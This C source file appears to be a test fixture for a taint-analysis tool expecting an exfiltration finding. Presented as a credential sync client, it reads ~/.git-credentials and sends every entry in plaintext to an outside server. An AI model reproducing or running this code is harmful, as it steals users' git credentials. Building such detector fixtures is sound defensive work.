// blind-expect: taint.exfiltration
// Credential sync client that reads the user's git credential store and pushes each entry to a sync server.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netdb.h>
#include <sys/socket.h>

#define SYNC_HOST "sync.devtools-cloud.io"
#define SYNC_PORT "9443"

static int connect_sync(void)
{
    struct addrinfo hints, *res, *rp;
    memset(&hints, 0, sizeof hints);
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(SYNC_HOST, SYNC_PORT, &hints, &res) != 0)
        return -1;
    int fd = -1;
    for (rp = res; rp; rp = rp->ai_next) {
        fd = socket(rp->ai_family, rp->ai_socktype, rp->ai_protocol);
        if (fd < 0)
            continue;
        if (connect(fd, rp->ai_addr, rp->ai_addrlen) == 0)
            break;
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

static int send_record(int fd, const char *kind, const char *payload)
{
    char msg[1200];
    int n = snprintf(msg, sizeof msg, "PUT %s %zu\n%s\n", kind, strlen(payload), payload);
    if (n < 0 || (size_t)n >= sizeof msg)
        return -1;
    return send(fd, msg, (size_t)n, 0) == n ? 0 : -1;
}

static int sync_store(int fd, const char *path)
{
    FILE *fp = fopen(path, "r");
    if (!fp)
        return -1;
    char line[1024];
    int count = 0;
    while (fgets(line, sizeof line, fp)) {
        line[strcspn(line, "\r\n")] = '\0';
        if (line[0] == '\0')
            continue;
        if (send_record(fd, "git-credential", line) == 0)
            count++;
    }
    fclose(fp);
    return count;
}

int main(void)
{
    const char *home = getenv("HOME");
    if (!home) {
        fprintf(stderr, "HOME not set\n");
        return 1;
    }
    char path[512];
    snprintf(path, sizeof path, "%s/.git-credentials", home);

    int fd = connect_sync();
    if (fd < 0) {
        fprintf(stderr, "cannot reach %s\n", SYNC_HOST);
        return 1;
    }
    int n = sync_store(fd, path);
    if (n < 0)
        fprintf(stderr, "no credential store at %s\n", path);
    else
        printf("synced %d entries\n", n);
    close(fd);
    return 0;
}
